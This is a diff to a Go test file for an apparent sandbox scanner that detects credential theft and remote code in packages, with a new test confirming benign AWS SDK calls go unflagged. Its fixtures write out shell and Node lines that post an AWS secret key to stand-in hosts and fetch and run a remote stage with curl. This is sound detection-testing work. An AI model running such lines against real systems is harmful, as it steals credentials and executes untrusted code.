@@ -14,12 +14,14 @@ import (
 // (https, fetch), Python (urllib, http.client), curl and wget get the
 // marker answer — code that runs it is remote code (DBX019) — and what
 // they send is recorded decrypted: a canary in a request body is theft
-// (DBX001). curl and wget have no hook, so their theft is seen only in the
-// fake internet's decrypted record. The packages imitate stagers and
-// stealers; they run only in the sandbox and reach only *.invalid names.
+// (DBX001), also to an address in the URL (no SNI). curl and wget have
+// no hook, so their theft is seen only in the fake internet's decrypted
+// record. The packages imitate stagers and stealers; they run only in the
+// sandbox and reach only *.invalid names and a documentation address.
 func TestHTTPSAnswered(t *testing.T) {
 	shell := `curl -s -d "k=$AWS_SECRET_ACCESS_KEY" https://curl.tls.invalid/u >/dev/null 2>&1; ` +
 		`wget -q -O /dev/null --post-data="k=$AWS_SECRET_ACCESS_KEY" https://wget.tls.invalid/u 2>/dev/null; ` +
+		`curl -s -d "k=$AWS_SECRET_ACCESS_KEY" https://198.51.100.9/u >/dev/null 2>&1; ` + // no SNI: a certificate for the address
 		`sh -c "$(curl -s https://stage.tls.invalid/s)" >/dev/null 2>&1; true`
 	nodeStager := `const https = require('https');
 const body = 'k=' + process.env.AWS_SECRET_ACCESS_KEY;
@@ -69,7 +71,7 @@ except Exception:
 			"node_modules/shelltls/index.js":     `module.exports = 1;`,
 		}, want: []did{
 			{"node_modules/nodetls", profile.PhaseImport, []string{"node.tls.invalid:443"}},
-			{"node_modules/shelltls", profile.PhaseInstall, []string{"curl.tls.invalid:443", "wget.tls.invalid:443"}},
+			{"node_modules/shelltls", profile.PhaseInstall, []string{"curl.tls.invalid:443", "wget.tls.invalid:443", "198.51.100.9:443"}},
 		}},
 		{name: "python", python: true, files: map[string]string{
 			"lambda_function.py":           "import pytls\n\n\ndef lambda_handler(event, context):\n    return 1\n",
@@ -108,5 +110,31 @@ except Exception:
 				}
 			}
 		})
+	}
+}
+
+// TestHTTPSAWSCallsAreNotTheft: with HTTPS answered, boto3's calls to AWS
+// reach the fake internet signed with the planted credentials (the key id
+// and session token in SigV4's headers) on TLS sockets the Python hook
+// records, after another HTTPS call (requests) on a socket gone before:
+// no canary theft is reported on the real, benign distributions (Debian's
+// python3-boto3, -requests), and the calls are named by host.
+func TestHTTPSAWSCallsAreNotTheft(t *testing.T) {
+	requirePython(t)
+	dir := debianBundle(t, debianDists)
+	handler := "import boto3\nimport requests\n\n_db = boto3.client('dynamodb', region_name='us-east-1')\n\n\n" +
+		"def lambda_handler(event, context):\n" +
+		"    try:\n        requests.get('https://partner.example.com/v1/score', timeout=3)\n    except Exception:\n        pass\n" +
+		"    try:\n        _db.get_item(TableName='profiles', Key={'id': {'S': 'guest'}})\n    except Exception:\n        pass\n" +
+		"    return {'statusCode': 200}\n"
+	writeBundle(t, dir, map[string]string{"lambda_function.py": handler})
+	p := run(t, invokeOptions(t, dir))
+	called := false
+	p.EachBehavior(func(b *profile.Behavior) { called = called || hasHost(b, "dynamodb.us-east-1.amazonaws.com", 443) })
+	if !called {
+		t.Error("no call to dynamodb.us-east-1.amazonaws.com:443 in the profile")
+	}
+	for _, f := range findings(p) {
+		t.Errorf("finding on benign code: %s %s %s %s %v", f.Rule, f.Path, f.Phase, f.Message, f.Evidence.Values)
 	}
 }
